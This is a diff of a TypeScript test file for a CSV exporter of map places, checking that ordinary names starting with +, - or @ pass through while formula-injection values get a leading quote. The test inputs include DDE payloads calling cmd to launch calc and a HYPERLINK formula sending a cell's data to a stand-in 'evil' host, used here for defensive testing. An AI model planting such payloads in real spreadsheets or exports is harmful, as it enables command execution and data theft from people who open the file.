@@ -1,14 +1,11 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { anyLatLng, hostilePlaceText, place } from '../../../test/places.js';
-import { readCsv } from '../../../test/read-formats.js';
+import { coordinatesCsvCell as asCell, readCsv } from '../../../test/read-formats.js';
 import { UNTITLED_PLACE_NAME } from '../kml.js';
 import { formatDegrees } from '../latlng.js';
 import { buildCoordinatesCsv, COORDINATES_CSV_COLUMNS } from './coordinates-csv.js';
 import { cleanText, placeName } from './place-text.js';
-
-/** What a text cell holds: the text, with `'` before a leading formula character. */
-const asCell = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
 
 describe('buildCoordinatesCsv', () => {
   it('writes the product columns, a BOM and CRLF line ends', () => {
@@ -65,12 +62,36 @@ describe('buildCoordinatesCsv', () => {
       '-12.5',
       '-0.0000001',
       "'=1+2",
-      "'-x",
-      "'@me",
-      "'+33",
+      '-x',
+      '@me',
+      '+33',
     ]);
     // Plain decimals, never exponent notation (1e-7), so My Maps and spreadsheets read numbers.
     expect(Number(rows[1]![2])).toBe(-1e-7);
+  });
+
+  it("keeps a place's own text that starts with + - @ as it is, and guards every formula that reaches outside its cell", () => {
+    const cellOf = (title: string) =>
+      readCsv(buildCoordinatesCsv([place({ title, coordinates: { lat: 1, lng: 2 } })]))[1]![0];
+    for (const text of [
+      '+44 Café',
+      '- try the tart',
+      '-5 Degrees',
+      '@Home Burgers',
+      '+1 555 0100',
+    ]) {
+      expect(cellOf(text)).toBe(text);
+    }
+    for (const text of [
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(1+9)*cmd',
+      '+HYPERLINK("http://evil?"&A1)',
+      "-'\\\\evil\\share\\[x.xlsx]Sheet1'!A1",
+      '=1+2',
+    ]) {
+      expect(cellOf(text)).toBe(`'${text}`);
+    }
   });
 
   it('gives back any text after cleaning and formula neutralising, and any coordinates (property)', () => {
